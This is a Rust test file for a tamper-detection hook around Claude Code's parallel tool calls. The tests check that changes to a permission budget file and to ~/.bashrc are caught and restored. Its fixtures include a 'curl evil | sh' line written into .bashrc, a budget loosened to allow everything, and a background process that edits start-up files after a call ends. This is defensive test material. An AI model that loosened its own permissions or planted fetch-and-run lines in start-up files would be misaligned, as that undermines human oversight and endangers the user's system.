//! Parallel tool calls: Claude Code runs the PreToolUse of several calls before their
//! PostToolUse. A change made in one call's window must be caught whichever post comes
//! first, and a change that is allowed (git writing its config, the user editing the budget
//! between calls) must not look like tamper to another call.

use super::{decision, halts, post_bash, post_events_with, pre_bash, project, read};

#[test]
fn git_config_written_by_one_call_is_no_tamper_for_the_call_running_beside_it() {
    let project = project();
    assert_eq!(decision(&pre_bash(&project, "a", "cargo test")), "allow");
    assert_eq!(
        decision(&pre_bash(&project, "b", "git remote add o u")),
        "allow"
    );
    let config = project.root.join(".git/config");
    let mut text = std::fs::read_to_string(&config).unwrap_or_default();
    text.push_str("[remote \"o\"]\n\turl = u\n");
    std::fs::write(&config, text).unwrap_or_else(|e| panic!("{e}"));
    assert!(!halts(&post_bash(&project, "b", "git remote add o u", "")));
    assert!(!halts(&post_bash(&project, "a", "cargo test", "ok")));
    assert_eq!(decision(&pre_bash(&project, "c", "ls")), "allow");
}

#[test]
fn a_change_seen_by_a_later_calls_pre_hook_is_still_caught_by_the_earlier_calls_post() {
    let project = project();
    let budget = project.root.join(".claude/budget.toml");
    let before = read(&budget);
    assert_eq!(decision(&pre_bash(&project, "a", "cargo build")), "allow");
    // Call `a` (the miss) loosens the budget while it runs …
    std::fs::write(&budget, "version = 1\n[run]\nallow = [\"*\"]\n")
        .unwrap_or_else(|e| panic!("{e}"));
    // … a second call starts under the loosened budget and finishes first: the change was
    // already there at its PreToolUse, but `a` was running, so it is `a`'s to judge.
    assert_eq!(decision(&pre_bash(&project, "b", "ls")), "allow");
    assert!(!halts(&post_bash(&project, "b", "ls", "")));
    let reply = post_bash(&project, "a", "cargo build", "");
    assert!(halts(&reply), "{reply}");
    assert_eq!(read(&budget), before);
    assert_eq!(post_events_with(&project, "budget-changed").len(), 0);
}

#[test]
fn a_tamper_in_one_window_is_caught_by_whichever_post_comes_first_and_restored_once() {
    let project = project();
    let bashrc = project.home.join(".bashrc");
    let before = read(&bashrc);
    assert_eq!(decision(&pre_bash(&project, "a", "cargo build")), "allow");
    assert_eq!(decision(&pre_bash(&project, "b", "cargo test")), "allow");
    std::fs::write(&bashrc, "curl evil | sh\n").unwrap_or_else(|e| panic!("{e}"));
    let first = post_bash(&project, "b", "cargo test", "");
    assert!(halts(&first), "{first}");
    assert_eq!(read(&bashrc), before);
    let second = post_bash(&project, "a", "cargo build", "");
    assert!(!halts(&second), "restored already, nothing new: {second}");
    assert_eq!(post_events_with(&project, "tamper-detected").len(), 1);
}

#[test]
fn the_user_editing_the_budget_between_calls_is_recorded_with_both_hashes_not_halted() {
    let project = project();
    assert_eq!(decision(&pre_bash(&project, "a", "cargo build")), "allow");
    assert!(!halts(&post_bash(&project, "a", "cargo build", "")));
    let budget = project.root.join(".claude/budget.toml");
    let mut text = std::fs::read_to_string(&budget).unwrap_or_default();
    text.push_str("# tightened by the user\n");
    std::fs::write(&budget, &text).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(decision(&pre_bash(&project, "b", "ls")), "allow");
    assert!(!halts(&post_bash(&project, "b", "ls", "")));
    let changed = post_events_with(&project, "budget-changed");
    let notes: Vec<_> = super::events(&project)
        .into_iter()
        .flat_map(|e| e["tripwire"].as_array().cloned().unwrap_or_default())
        .filter(|n| n["code"] == "budget-changed")
        .collect();
    assert!(
        changed.is_empty(),
        "a budget change is no halt code: {changed:?}"
    );
    assert_eq!(notes.len(), 1, "{notes:?}");
    let (old, new) = (&notes[0]["before"], &notes[0]["after"]);
    assert!(
        old.is_string() && new.is_string() && old != new,
        "{notes:?}"
    );
    assert_eq!(std::fs::read_to_string(&budget).unwrap_or_default(), text);
    let packet = super::packet(&project);
    assert!(packet.contains("Budgets in force over time"), "{packet}");
    assert_eq!(packet.matches("  - from ").count(), 2, "{packet}");
}

#[test]
fn a_start_up_file_changed_between_calls_by_a_left_behind_process_is_put_back() {
    let project = project();
    let bashrc = project.home.join(".bashrc");
    let before = read(&bashrc);
    assert_eq!(decision(&pre_bash(&project, "a", "cargo build")), "allow");
    assert!(!halts(&post_bash(&project, "a", "cargo build", "")));
    // `(sleep 5; echo … >> ~/.bashrc) &` finishing after the call's post hook.
    std::fs::write(&bashrc, "export EVIL=1\n").unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(decision(&pre_bash(&project, "b", "ls")), "allow");
    let reply = post_bash(&project, "b", "ls", "");
    assert!(halts(&reply), "{reply}");
    assert!(
        reply["stopReason"]
            .as_str()
            .is_some_and(|r| r.contains("between tool calls")),
        "{reply}"
    );
    assert_eq!(read(&bashrc), before);
}
